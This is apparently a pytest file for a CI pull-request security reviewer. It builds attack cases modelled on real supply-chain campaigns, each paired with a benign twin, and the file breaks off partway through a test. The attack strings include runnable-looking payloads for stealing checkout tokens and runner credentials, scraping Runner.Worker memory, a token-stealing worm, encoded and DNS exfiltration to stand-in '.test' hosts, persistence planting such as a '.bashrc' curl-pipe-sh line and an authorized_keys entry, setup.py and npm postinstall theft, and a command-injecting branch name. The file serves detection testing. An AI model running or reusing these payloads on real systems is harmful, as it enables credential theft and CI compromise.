"""Detection against what real campaigns do (issue 13): one real `cujo review` per case.

Each case is a small project reviewed end to end as a pull request on a git repository
built here, with the harness installed as action.yml installs it. Attacks are shaped like
real campaigns (the tj-actions/changed-files memory dump, the Nx and npm worms' token
theft, .pth persistence); each has a benign twin that does the same kind of thing for a
project's own reasons and must stay clean. Nothing leaves the machine: targets are
`.test` names the logging resolver sinks, or loopback.

Reviews run one at a time (the machine is shared), only those the selected tests need,
each once. These tests need full isolation (root, `ip`, `nft`, `setpriv`, bubblewrap),
as on an Actions runner; elsewhere they are skipped with the reason.
"""

from __future__ import annotations

import json
import re
from typing import Any

from cujorun import Review
from e2ecases import (
    ISOLATION,
    Case,
    CaseReviews,
    assert_blocked,
    assert_whole,
    case_reviews,
    critical_rules,
    findings,
)
from repo_paths import SAMPLES

pytestmark = ISOLATION

FAST = {"install": 120, "test": 120, "smoke": 60, "probes": 60}
CALC = "def add(a, b):\n    return a + b\n"


def policy(**settings: object) -> str:
    """Return a `.cujo.yml` text (JSON is YAML, and quotes every command safely)."""
    return json.dumps({"timeouts": FAST, **settings}) + "\n"


def python(code: str) -> str:
    """Return a shell script line running ``code`` with the run's Python."""
    return "python - <<'PY'\n" + code.strip() + "\nPY\n"


def scripted(install: str = "echo installed\n", test: str = "echo tested\n") -> dict[str, str]:
    """Return a project whose install and tests are `ci/install.sh` and `ci/test.sh`."""
    return {
        "requirements.txt": "",
        "calc.py": CALC,
        "ci/install.sh": install,
        "ci/test.sh": test,
        ".cujo.yml": policy(install="bash ci/install.sh", test="bash ci/test.sh", smoke="true"),
    }


# --------------------------------------------------------------------------- item 1: the job

# The Nx "s1ngularity" and npm worms of 2025 read the token actions/checkout leaves in
# .git/config and send it home.
CHECKOUT_TOKEN_THEFT = """\
header="$(git config --get http.https://github.com/.extraheader)"
token="$(printf %s "${header##* }" | base64 -d)"
curl -sS -m 20 -o /dev/null --data-binary "t=${token#x-access-token:}" \\
  https://collector.exfil.test/checkout
echo "sent ${#token} bytes"
"""

# Runner hijacking and worms that reuse a job's logins: find the folder Runner.Worker runs
# from, take the runner's registration beside it (its OAuth client and RSA key) and the
# docker login an earlier step left in HOME, and ship them encoded.
RUNNER_THEFT = r"""
import base64, json, os, urllib.request
root = ""
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        exe = os.readlink(f"/proc/{pid}/exe")
    except OSError:
        continue
    if exe.endswith("/bin/Runner.Worker"):
        root = os.path.dirname(os.path.dirname(exe))
names = [os.path.join(root, n) for n in (".runner", ".credentials", ".credentials_rsaparams")]
loot = {}
for path in [*names, os.path.expanduser("~/.docker/config.json")]:
    with open(path) as f:
        loot[os.path.basename(path)] = f.read()
body = base64.b64encode(json.dumps(loot).encode())
urllib.request.urlopen("https://collector.exfil.test/runner", data=body, timeout=20)
print("root=" + root)
print("files=" + ",".join(sorted(loot)))
"""

# tj-actions/changed-files (March 2025): find Runner.Worker, read its memory through
# /proc, keep what looks like a secret in the runner's own format, ship it encoded.
MEMORY_DUMP = r"""
import base64, os, re, urllib.request

def worker():
    for pid in sorted(os.listdir("/proc"), key=lambda p: (len(p), p)):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as fh:
                    if b"Runner.Worker" in fh.read():
                        return pid
            except OSError:
                pass
    raise SystemExit("no Runner.Worker")

pid = worker()
found = set()
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
    for line in maps:
        span, perms = line.split()[:2]
        if not perms.startswith("r"):
            continue
        start, end = (int(x, 16) for x in span.split("-"))
        try:
            mem.seek(start)
            chunk = mem.read(end - start)
        except (OSError, OverflowError, ValueError):
            continue
        found.update(re.findall(rb'"[^"]+":\{"value":"[^"]*","isSecret":true\}', chunk))
blob = base64.b64encode(b"\n".join(sorted(found)))
print("secrets", len(found))
urllib.request.urlopen("https://collector.exfil.test/mem", data=blob, timeout=20)
"""

# The npm worms of 2025 (Shai-Hulud) try the stolen token on GitHub's API, then publish
# what they stole as a public gist. This one first checks GitHub answers as it does on a
# runner (a proverb from /zen, 403 from /user for the job's token), and stops if not.
TOKEN_WORM = r"""
import json, os, urllib.error, urllib.request

def call(method, path, body=None, token=None):
    headers = {"Accept": "application/vnd.github+json", "User-Agent": "worm"}
    if token:
        headers["Authorization"] = "Bearer " + token
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(os.environ["GITHUB_API_URL"] + path, data=data,
                                     headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()

status, zen = call("GET", "/zen")
print(f"zen={status}:{len(zen.strip())}")
if status != 200 or not zen.strip():
    raise SystemExit("not a runner")
token = os.environ["GITHUB_TOKEN"]
status, _ = call("GET", "/user", token=token)
print(f"user={status}")
status, repo = call("GET", "/repos/" + os.environ["GITHUB_REPOSITORY"], token=token)
print(f"push={json.loads(repo)['permissions']['push']}")
loot = {"files": {"env.json": {"content": json.dumps(dict(os.environ))}}, "public": True}
status, gist = call("POST", "/gists", loot, token=token)
print(f"gist={status}:{len(json.loads(gist)['id'])}")
"""

# What a CI-aware test suite does on a runner: git in the checkout, the job's variables
# and event file, the process list, and a local echo server. It must stay clean, and
# everything it looks at must be what a hosted runner shows.
LOOKS_LIKE_A_JOB = r"""
import json, os, pwd, re, socket, subprocess, threading

def say(key, value):
    print(f"{key}={value}")

say("ci", os.environ.get("CI"))
say("actions", os.environ.get("GITHUB_ACTIONS"))
say("workspace_is_cwd", os.environ["GITHUB_WORKSPACE"] == os.getcwd())
say("workspace", os.environ["GITHUB_WORKSPACE"])
say("repository", os.environ["GITHUB_REPOSITORY"])
with open(os.environ["GITHUB_EVENT_PATH"]) as fh:
    event = json.load(fh)
say("event_sha", event["after"] == os.environ["GITHUB_SHA"])
say("event", os.environ["GITHUB_EVENT_NAME"] + " " + event["ref"])
say("branch", subprocess.run(["git", "symbolic-ref", "--short", "HEAD"], capture_output=True,
                             text=True).stdout.strip())
say("parents", len(subprocess.run(["git", "rev-list", "--parents", "-n1", "HEAD"],
                                  capture_output=True, text=True).stdout.split()) - 1)
say("env_file", os.path.isfile(os.environ["GITHUB_ENV"]))
say("runtime_token", os.environ["ACTIONS_RUNTIME_TOKEN"].count("."))
say("user", pwd.getpwuid(os.getuid()).pw_name)
say("home", os.path.expanduser("~"))
say("origin", subprocess.run(["git", "remote", "get-url", "origin"], capture_output=True,
                             text=True).stdout.strip())
say("head", subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True,
                           text=True).stdout.strip() == os.environ["GITHUB_SHA"])
procs = {}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                procs[int(pid)] = fh.read().replace(b"\0", b" ").decode().strip()
        except OSError:
            pass
workers = [c for c in procs.values() if c.split(" ")[0].endswith("/Runner.Worker")]
say("worker", workers[0] if workers else "none")
say("worker_exe", os.readlink(f"/proc/{[p for p, c in procs.items() if c in workers][0]}/exe"))
texts = [*procs.values(), *os.environ.values(), *os.environ, socket.gethostname(),
         *os.listdir(os.path.expanduser("~")), *os.listdir("/home/runner/work")]
say("traces", sorted({t for t in texts if re.search("cujo|sandbox|decoy", t, re.I)}) or "none")

server = socket.create_server(("127.0.0.1", 0))
def echo():
    conn, _ = server.accept()
    conn.sendall(conn.recv(100))
    conn.close()
threading.Thread(target=echo, daemon=True).start()
client = socket.create_connection(server.getsockname(), timeout=10)
client.sendall(b"ping")
say("echo", client.recv(100).decode())
"""

# --------------------------------------------------------------------------- item 2: encodings

# Secrets leave wrapped: tj-actions' `base64 -w0 | base64 -w0`, a gzip file in a
# multipart upload, base32 of a slice of a token in DNS labels.
ENCODED_EXFIL = r"""
import base64, gzip, json, os, socket, urllib.request

env = "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()
twice = base64.b64encode(base64.b64encode(env))
urllib.request.urlopen("https://twice.exfil.test/b64", data=twice, timeout=20)

boundary = "----formdata"
archive = gzip.compress(json.dumps({"npm": os.environ["NPM_TOKEN"]}).encode())
head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.gz\"\r\n"
        "Content-Type: application/gzip\r\n\r\n")
form = head.encode() + archive + f"\r\n--{boundary}--\r\n".encode()
urllib.request.urlopen(urllib.request.Request(
    "https://upload.exfil.test/form", data=form,
    headers={"Content-Type": f"multipart/form-data; boundary={boundary}"}), timeout=20)

token = os.environ["ACTIONS_RUNTIME_TOKEN"][-120:-80].encode()  # a slice of its signature
name = base64.b32encode(token).decode().rstrip("=").lower()
labels = ".".join(name[i:i + 40] for i in range(0, len(name), 40))
try:
    socket.gethostbyname(f"{labels}.dns.exfil.test")
except OSError:
    pass

# Through a registry, whose reads are forwarded: the decoy cut into pieces shorter than a
# slice, each asked of PyPI as a package name, and once under seven base64 layers (past
# the decoders' depth) in a search query.
npm = os.environ["NPM_TOKEN"].encode().hex()
for i in range(0, len(npm), 12):
    try:
        urllib.request.urlopen(f"https://pypi.org/simple/{npm[i:i + 12]}/", timeout=20)
    except OSError:
        pass
layered = os.environ["GITHUB_TOKEN"].encode()
for _ in range(7):
    layered = base64.urlsafe_b64encode(layered)
try:
    urllib.request.urlopen(f"https://pypi.org/search/?q={layered.decode()}", timeout=20)
except OSError:
    pass
print("sent")
"""

# The benign twin: a test suite that fetches a web page, posts telemetry compressed and
# uploads fixtures (random bytes, base64, a gzip file): nothing of it is a decoy.
WEB_TESTS = r"""
import base64, gzip, json, os, urllib.request

page = urllib.request.urlopen("https://docs.example.test/page", timeout=20).read()
telemetry = gzip.compress(json.dumps({"tests": 12, "python": "3", "ci": os.environ["CI"]}).encode())
urllib.request.urlopen(urllib.request.Request("https://telemetry.example.test/v1", data=telemetry,
    headers={"Content-Encoding": "gzip"}), timeout=20)
blob = os.urandom(600_000)
urllib.request.urlopen("https://fixtures.example.test/raw", data=blob, timeout=20)
urllib.request.urlopen("https://fixtures.example.test/b64", data=base64.b64encode(blob), timeout=20)
urllib.request.urlopen("https://fixtures.example.test/gz", data=gzip.compress(blob), timeout=20)
print("fetched", len(page))
"""

# --------------------------------------------------------------------------- item 4: persistence

# A .pth file in the user site runs in every later Python: planted by setup.py, so both
# the repository's install and detonation's run it.
PTH_SETUP = """\
import site, pathlib
from setuptools import setup

user_site = pathlib.Path(site.getusersitepackages())
user_site.mkdir(parents=True, exist_ok=True)
# Any import line runs at every later start; this one only marks that it did.
(user_site / "zz_telemetry.pth").write_text("import os; os.environ.setdefault('ZZ', '1')\\n")
setup(name="calc", version="0.1", py_modules=["calc"])
"""

# Every other place that runs later, from one test suite.
EVERYWHERE = r"""
set -e
mkdir -p ~/.config/systemd/user ~/.config/autostart ~/.ssh
printf '[Service]\nExecStart=%s/.x\n' "$HOME" > ~/.config/systemd/user/updater.service
printf '[Desktop Entry]\nExec=%s/.x\n' "$HOME" > ~/.config/autostart/updater.desktop
echo 'curl -s https://implant.persist.test/b | sh' >> ~/.bashrc
git config --global core.hooksPath "$HOME/.hooks"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker' >> ~/.ssh/authorized_keys
echo 'registry=https://npm.persist.test/' >> ~/.npmrc
echo "script-shell=$HOME/.cache/sh" >> ~/.npmrc
printf 'yarnPath: .yarn/x.cjs\n' > ~/.yarnrc.yml
echo 'node-options=--require /home/runner/.x.js' >> .npmrc
echo 'NODE_OPTIONS=--require /home/runner/.x.js' >> "$GITHUB_ENV"
echo 'GIT_EXTERNAL_DIFF=/tmp/x' >> "$GITHUB_ENV"
echo "$HOME/.implant/bin" >> "$GITHUB_PATH"
echo planted
"""

# The benign twin: a test suite that caches under ~/.cache, sets a git identity, pins
# pip to the public index, turns npm's funding and audit notices off (its own config and
# the checkout's), and passes values to later steps as CI scripts do.
ORDINARY_WRITES = r"""
set -e
mkdir -p ~/.cache/calc && date > ~/.cache/calc/last-run
git config --global user.email ci@example.test
git config --global user.name CI
git config --global init.defaultBranch main
mkdir -p ~/.config/pip && printf '[global]\nindex-url = https://pypi.org/simple\n' \
  > ~/.config/pip/pip.conf
npm config set fund false && npm config set audit false --location=project
echo "VERSION=0.1" >> "$GITHUB_ENV"
echo "coverage=97" >> "$GITHUB_OUTPUT"
echo "result=ok" >> "$GITHUB_OUTPUT"
echo '### 12 passed' >> "$GITHUB_STEP_SUMMARY"
printf '| suite | passed |\n|---|---|\n| calc | 12 |\n' >> "$GITHUB_STEP_SUMMARY"
echo ok
"""

# --------------------------------------------------------------------------- item 8: tests

# Shaped like python-attrs/attrs and pallets/itsdangerous today: the version comes from
# git (setuptools-scm), the tests' dependencies only from a PEP 735 group.
SCM_PYPROJECT = """\
[build-system]
requires = ["setuptools>=64", "setuptools-scm>=8"]
build-backend = "setuptools.build_meta"

[project]
name = "clock"
dynamic = ["version"]
requires-python = ">=3.9"

[tool.setuptools]
packages = ["clock"]

[tool.setuptools_scm]

[dependency-groups]
tests = ["pytest", "freezegun"]
dev = [{include-group = "tests"}]
"""
CLOCK = """\
import datetime
from importlib.metadata import version

__version__ = version("clock")


def today() -> datetime.date:
    return datetime.date.today()
"""
CLOCK_TEST = """\
import datetime

from freezegun import freeze_time

import clock


def test_today_is_frozen():
    with freeze_time("2024-02-29"):
        assert clock.today() == datetime.date(2024, 2, 29)


def test_the_version_comes_from_git():
    assert clock.__version__.startswith("0.1.dev"), clock.__version__
"""
SCM_PROJECT = {"pyproject.toml": SCM_PYPROJECT, "clock/__init__.py": CLOCK,
               "tests/test_clock.py": CLOCK_TEST}  # fmt: skip

# tox says what the tests need, the CI workflow at base how they are run.
TOX_INI = """\
[tox]
envlist = py3
[testenv]
deps =
    pytest
    freezegun
commands = pytest -q tests {posargs}
"""
TOX_PROJECT = {
    "setup.py": "from setuptools import setup\nsetup(name='clock', version='1.0', "
    "packages=['clock'])\n",
    "clock/__init__.py": CLOCK.replace('version("clock")', '"1.0"'),
    "tests/test_clock.py": CLOCK_TEST.replace("0.1.dev", "1.0"),
    "tox.ini": TOX_INI,
    ".github/workflows/ci.yml": "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n"
    "    steps:\n      - run: pip install tox && tox -e py3\n",
}

# --------------------------------------------------------------------------- item 6: base vs head

# The project's own install already downloads a data file (a model, a fixture).
DOWNLOADS = "curl -sS -m 20 -o data.bin https://data.example.test/model.bin\necho installed\n"
# The head hides a theft in that noise: the same host, one more request.
NOISY_THEFT = DOWNLOADS + (
    'curl -sS -m 20 -o /dev/null --data-binary "k=$AWS_SECRET_ACCESS_KEY" '
    "https://data.example.test/metrics\n"
)
FAILING = "echo '1 failed, 11 passed'\nexit 1\n"

# --------------------------------------------------------------------------- item 3: DNS

# Lookups around the resolver: DNS over TCP to a server of its own, and DNS-over-HTTPS.
DNS_ROUTES = r"""
import base64, os, socket, struct, urllib.request

secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode().hex()

def query(name):
    wire = struct.pack("!HHHHHH", 0, 0x0100, 1, 0, 0, 0)
    wire += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return wire + struct.pack("!HH", 1, 1)

tcp = socket.create_connection(("203.0.113.53", 53), timeout=20)
message = query(secret[:60] + ".tcp.exfil.test")
tcp.sendall(struct.pack("!H", len(message)) + message)
tcp.recv(512)
tcp.close()
encoded = base64.urlsafe_b64encode(query(secret[20:80] + ".doh.exfil.test")).decode().rstrip("=")
urllib.request.urlopen("https://dns.google/dns-query?dns=" + encoded, timeout=20)
print("looked up")
"""

# The twin: a suite that resolves names the ordinary ways, and tests a DoH client.
DNS_TESTS = r"""
import base64, socket, struct, subprocess, urllib.request

print(subprocess.run(["getent", "hosts", "docs.example.test"], capture_output=True).returncode)
wire = struct.pack("!HHHHHH", 0, 0x0100, 1, 0, 0, 0) + b"\x07example\x04test\x00\x00\x01\x00\x01"
tcp = socket.create_connection(("192.0.2.53", 53), timeout=20)
tcp.sendall(struct.pack("!H", len(wire)) + wire)
tcp.recv(512)
encoded = base64.urlsafe_b64encode(wire).decode().rstrip("=")
urllib.request.urlopen("https://dns.google/dns-query?dns=" + encoded, timeout=20)
print("resolved")
"""

# --------------------------------------------------------------------------- item 5: opaque

# Read a credential, then talk over TLS pinned to a CA of its own: the proxy's certificate
# fails, so nothing of what was said can be read. @READ@ is where the key is read. No
# proxy is set: the connection goes straight out and the namespace catches it.
PINNED_TLS = r"""
import glob, os, socket, ssl

@READ@
ca = sorted(glob.glob("/usr/share/ca-certificates/mozilla/*.crt"))[0]
context = ssl.create_default_context(cafile=ca)
raw = socket.create_connection(("collector.exfil.test", 443), timeout=20)
try:
    tls = context.wrap_socket(raw, server_hostname="collector.exfil.test")
    tls.sendall(key.encode())
except ssl.SSLError as exc:
    print("pinned:", type(exc).__name__)
"""
STEAL = 'key = open(os.path.expanduser("~/.docker/config.json")).read()'

# --------------------------------------------------------------------------- item 7: attribution

PLAIN_SETUP = (
    "from setuptools import setup\nsetup(name='calc', version='0.1', py_modules=['calc'])\n"
)
THEFT_SETUP = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collector.exfil.test/s', "
    "data=os.environ['AWS_SECRET_ACCESS_KEY'].encode(), timeout=20)\n" + PLAIN_SETUP
)
PACKAGE_JSON = (
    '{"name": "left-pad-ng", "version": "1.0.0", "scripts": {"postinstall": "node x.js"}}\n'
)

# A project of many top-level modules (30 sort before its own package), and a pull request
# that adds a module to its package which sends a secret at import, but only when imported
# as a program imports it: not under `python -c`, and only from the project's folder.
MANY_MODULES = [f"aa{n:02}" for n in range(30)]
MANY_SETUP = (
    "from setuptools import setup\n"
    f"setup(name='zzapp', version='0.1', packages=['zz_app'], py_modules={MANY_MODULES!r})\n"
)
QUIET_UNDER_C = """\
import os, sys, urllib.request
if sys.argv[0] not in ("-c", "") and os.path.exists("setup.py"):
    urllib.request.urlopen("https://changed.exfil.test/t",
                           data=os.environ["AWS_SECRET_ACCESS_KEY"].encode(), timeout=20)
"""
STEAL_JS = """\
const https = require("https");
const req = https.request(
  {host: "collector.exfil.test", path: "/n", method: "POST", headers: {Connection: "close"}},
  (res) => res.resume(),
);
req.on("error", () => {});
req.end(process.env.NPM_TOKEN);
"""

# --------------------------------------------------------------------------- issue 33: time

# A payload that waits for a date: nothing happens today, so nothing else can be seen.
DATE_GATED = (
    CALC
    + """
import time
if time.time() > 1780000000:  # 2026-05-28
    import threading
    threading.Thread(target=lambda: None, daemon=True).start()
"""
)


# --------------------------------------------------------------------------- item 9: workflows

# Issue 33: what a pull request changes about CI, and what its own text does to the base's
# CI. The base runs a pull_request_target workflow that greets each pull request by its
# branch name (the ultralytics shape); the attack adds a push workflow posting a secret
# (GhostAction) and a pull_request_target workflow that builds the head (a pwn request),
# from a branch named to run a command in the greeting; the benign twin bumps an action's
# pinned SHA, from an ordinary branch.
WORKFLOW_SAMPLES = SAMPLES / "workflows"
GREET = """\
name: Greet
on: pull_request_target
permissions: {pull-requests: write}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - name: Say thanks
        run: echo "Thanks for ${{ github.head_ref }}!"
"""
CI_YML = (WORKFLOW_SAMPLES / "ci.yml").read_text()
OLD_PIN = "11bd71901bbe5b1630ceea73d27597364c9af683"
NEW_PIN = "08eba0b27e820071cde6df949e0beb9ba4906955"
HOSTILE_BRANCH = "$({curl,-d,@.env,x.test})"
WITH_CI = {".github/workflows/greet.yml": GREET, ".github/workflows/ci.yml": CI_YML}
# GhostAction's collector, moved under `.test` (its step now runs: traffic stays here).
GHOSTACTION = (
    (WORKFLOW_SAMPLES / "ghostaction.yml")
    .read_text()
    .replace("bold-dhawan.45-139-104-115.plesk.page", "bold-dhawan.exfil.test")
)
# A push workflow whose step sends a secret the way the reading rules do not name: into a
# file, base64, then out with Python, to an address an earlier step set through
# GITHUB_ENV. Only running the job, as the runner runs it, catches it.
DEPLOY_DOCS = """\
name: Docs
on:
  push:
    branches: [main]
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
      - name: Configure
        run: echo "DOCS_URL=https://docs.exfil.test/p" >> "$GITHUB_ENV"
      - name: Publish docs
        env:
          KEY: ${{ secrets.DEPLOY_KEY }}
        run: |
          printf %s "$KEY" | base64 -w0 > .stamp
          python3 -c "import os, urllib.request as u
          u.urlopen(os.environ['DOCS_URL'], data=open('.stamp', 'rb').read(), timeout=20)"
"""
# Its benign twin: only emulated actions, a step that says ok, and one that tells GitHub's
# API the docs are up with the job's token, as the token is meant to be used.
DOCS_OK = """\
name: Docs
on: [push, workflow_dispatch]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
      - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0
        with: {python-version: "3.12"}
      - uses: actions/cache@5a3ec84eff668545956fd18022155c47e93e2684 # v4.2.3
        with: {path: ~/.cache/pip, key: "pip-${{ hashFiles('requirements.txt') }}"}
      - run: echo ok
      - name: Announce
        env:
          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}
        run: |
          curl -sS -m 20 -o /dev/null -X POST -H "Authorization: Bearer $GH_TOKEN" \\
            -d '{"event_type":"docs"}' https://api.github.com/repos/octo/app/dispatches
      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
        with: {name: docs, path: site/}
"""

# A pwn request already in the base: a pull_request_target workflow that checks out the
# head and builds it, with the repository's secrets and a token that can write. The head
# is then installed and tested again in that job (the privileged check), where a theft
# that waits for that job's event fires.
PWN_AT_BASE = {".github/workflows/preview.yml": (WORKFLOW_SAMPLES / "pwn-request.yml").read_text()}
WAITS_FOR_THE_PRIVILEGED_JOB = (
    '[ "$GITHUB_EVENT_NAME" = pull_request_target ] || { echo "nothing to do"; exit 0; }\n'
    + CHECKOUT_TOKEN_THEFT
)

CASES: dict[str, Case] = {
    "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
    "runner-credentials": Case(scripted(), {"ci/test.sh": python(RUNNER_THEFT)}),
    "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
    "token-worm": Case(scripted(), {"ci/test.sh": python(TOKEN_WORM)}),
    "looks-like-a-job": Case(
        scripted(), {"ci/test.sh": python(LOOKS_LIKE_A_JOB), "calc.py": CALC + "# v2\n"}
    ),
    "encoded-exfil": Case(scripted(), {"ci/test.sh": python(ENCODED_EXFIL)}),
    "web-tests": Case(scripted(), {"ci/test.sh": python(WEB_TESTS)}),
    "pth-persistence": Case(
        {
            "setup.py": "from setuptools import setup\nsetup(name='calc', version='0.1', "
            "py_modules=['calc'])\n",
            "calc.py": CALC,
        },
        {"setup.py": PTH_SETUP},
    ),
    "persistence-everywhere": Case(scripted(), {"ci/test.sh": EVERYWHERE}),
    "ordinary-writes": Case(scripted(), {"ci/test.sh": ORDINARY_WRITES}),
    "scm-groups": Case(SCM_PROJECT, {"clock/__init__.py": CLOCK + "\n# faster\n"}),
    "tox-project": Case(
        TOX_PROJECT, {"clock/__init__.py": TOX_PROJECT["clock/__init__.py"] + "#\n"}
    ),
    "dns-routes": Case(scripted(), {"ci/install.sh": python(DNS_ROUTES)}),
    "dns-tests": Case(scripted(), {"ci/test.sh": python(DNS_TESTS)}),
    "pinned-after-read": Case(
        scripted(), {"ci/test.sh": python(PINNED_TLS.replace("@READ@", STEAL))}
    ),
    "pinned-only": Case(
        scripted(), {"ci/test.sh": python(PINNED_TLS.replace("@READ@", 'key = "hello"'))}
    ),
    "import-tricks": Case(
        {
            "setup.py": MANY_SETUP,
            **{f"{m}.py": "X = 1\n" for m in MANY_MODULES},
            "zz_app/__init__.py": "",
            ".cujo.yml": policy(),
        },
        {"zz_app/telemetry.py": QUIET_UNDER_C},
    ),
    "setup-py-theft": Case(
        {"setup.py": PLAIN_SETUP, "calc.py": CALC, ".cujo.yml": policy()}, {"setup.py": THEFT_SETUP}
    ),
    "npm-postinstall-theft": Case(
        {
            "package.json": PACKAGE_JSON.replace(', "scripts": {"postinstall": "node x.js"}', ""),
            "index.js": "module.exports = 1;\n",
            ".cujo.yml": policy(),
        },
        # And its own main sends the token when a user loads it (`require`, `import`).
        {
            "package.json": PACKAGE_JSON,
            "x.js": STEAL_JS,
            "index.js": STEAL_JS.replace("collector.exfil.test", "main.exfil.test")
            + "module.exports = 1;\n",
        },
    ),
    "base-downloads": Case(scripted(install=DOWNLOADS), {"calc.py": CALC + "# v2\n"}),
    "base-noise": Case(scripted(install=DOWNLOADS), {"ci/install.sh": NOISY_THEFT}),
    "fails-at-base-too": Case(scripted(test=FAILING), {"calc.py": CALC + "# v2\n"}),
    "date-gated": Case(scripted(), {"calc.py": DATE_GATED}),
    # The head adds a wheel from a host of its own to the test group: build files are read
    # at head, so it is installed, and that is what the install is judged on.
    "group-url": Case(
        SCM_PROJECT,
        {
            "pyproject.toml": SCM_PYPROJECT.replace(
                '"freezegun"]',
                '"freezegun", "helper @ https://wheels.evil.test/helper-1.0-py3-none-any.whl"]',
            )
        },
    ),
    "workflow-attacks": Case(
        {**scripted(), **WITH_CI},
        {
            ".github/workflows/security.yml": GHOSTACTION,
            ".github/workflows/docs.yml": DEPLOY_DOCS,
            ".github/workflows/preview.yml": (WORKFLOW_SAMPLES / "pwn-request.yml").read_text(),
        },
        branch=HOSTILE_BRANCH,
    ),
    "privileged-gated": Case(
        {**scripted(), **PWN_AT_BASE}, {"ci/test.sh": WAITS_FOR_THE_PRIVILEGED_JOB}
    ),
    "workflow-pin-bump": Case(
        {**scripted(), **WITH_CI, **PWN_AT_BASE},
        {
            ".github/workflows/ci.yml": CI_YML.replace(OLD_PIN, NEW_PIN),
            ".github/workflows/docs.yml": DOCS_OK,
        },
        branch="deps/bump-checkout",
    ),
}

reviews = case_reviews(CASES, "detect")
Reviews = CaseReviews


# --------------------------------------------------------------------------- running


# --------------------------------------------------------------------------- reading


def said(review: Review, check: str = "tests") -> dict[str, str]:
    """Return the ``key=value`` lines the check's last command printed."""
    command = review.report(check)["commands"][-1]
    lines = command["stdout_tail"].splitlines()
    return dict(line.split("=", 1) for line in lines if "=" in line)


def decoys_sent(review: Review) -> set[str]:
    return {
        d
        for f in findings(review, "decoy-egress")
        for e in f["evidence"]
        for d in e.get("decoy_seen", [])
    }


# --------------------------------------------------------------------------- item 1


def test_the_checkout_token_in_git_config_is_a_decoy_and_its_theft_blocks(
    reviews: Reviews,
) -> None:
    review = reviews.get("checkout-token")
    assert_blocked(review, "decoy-egress")
    (hit,) = findings(review, "decoy-egress")
    assert hit["check"] == "tests"
    # curl went straight out (no proxy is set): its lookup of the name is evidence too.
    (item,) = [e for e in hit["evidence"] if e["method"] == "POST"]
    lookups = [e for e in hit["evidence"] if e is not item]
    assert {(e["route"], e["host"]) for e in lookups} <= {("dns", "collector.exfil.test")}
    assert (item["host"], item["method"], item["phase"]) == ("collector.exfil.test", "POST", "test")
    assert item["decoy_seen"] == ["CHECKOUT_TOKEN"]
    assert "body:plain" in item["decoy_where"]
    (command,) = review.report("tests")["commands"]
    # x-access-token:ghs_ and 36 characters: the token actions/checkout keeps.
    assert "sent 55 bytes" in command["stdout_tail"], command
    assert_whole(review)


def test_the_runners_registration_and_a_docker_login_are_decoys_and_their_theft_blocks(
    reviews: Reviews,
) -> None:
    review = reviews.get("runner-credentials")
    assert_blocked(review, "decoy-egress")
    # Where a hosted runner keeps them: its root above bin/Runner.Worker, and HOME.
    assert said(review) == {
        "root": "/home/runner/runners/2.321.0",
        "files": ".credentials,.credentials_rsaparams,.runner,config.json",
    }
    (hit,) = findings(review, "decoy-egress")
    # The same process read a decoy first: the finding cites that read too.
    # (Clients resolve names themselves: the process's DNS lookups are cited beside it.)
    egress = [e for e in hit["evidence"] if e["id"].startswith("tests:egress:")]
    (item,) = [e for e in egress if e["method"] != "DNS"]
    assert (item["host"], item["method"], item["phase"]) == ("collector.exfil.test", "POST", "test")
    assert {"RUNNER_CLIENT_ID", "RUNNER_RSA_KEY", "DOCKER_LOGIN_TOKEN"} <= set(item["decoy_seen"])
    # The watcher saw each decoy file read, by the process that sent them.
    reads = {
        (e["path"], e["exe"] or "")
        for e in review.report("tests")["decoy_events"]
        if e["event"] == "read"
    }
    for path in (
        "~/runners/2.321.0/.credentials",
        "~/runners/2.321.0/.credentials_rsaparams",
        "~/.docker/config.json",
    ):
        assert any(p == path and "python" in exe for p, exe in reads), (path, reads)
    assert_whole(review)


def test_scraping_the_runner_workers_memory_finds_decoys_and_blocks(reviews: Reviews) -> None:
    review = reviews.get("runner-memory")
    assert_blocked(review, "decoy-egress")
    (command,) = review.report("tests")["commands"]
    assert command["exit_code"] == 0, command
    # system.github.token, github_token (one value) and a repository secret.
    assert "secrets 3" in command["stdout_tail"], command
    (hit,) = findings(review, "decoy-egress")
    # Straight out (no proxy is set): the name's lookup is evidence beside the request.
    (item,) = [e for e in hit["evidence"] if e["route"] != "dns"]
    assert (item["host"], item["url"]) == (
        "collector.exfil.test",
        "https://collector.exfil.test/mem",
    )
    assert set(item["decoy_seen"]) == {"RUNNER_WORKER_GITHUB_TOKEN", "RUNNER_WORKER_NPM_TOKEN"}
    assert item["decoy_where"] == ["body:base64"]
    assert_whole(review)


def test_a_worm_that_checks_githubs_answers_spends_the_token_and_blocks(reviews: Reviews) -> None:
    review = reviews.get("token-worm")
    assert_blocked(review, "decoy-egress")
    out = said(review)
    zen_status, zen_length = out["zen"].split(":")
    # GitHub answered as on a runner, so the worm went on: its checks, then its gist.
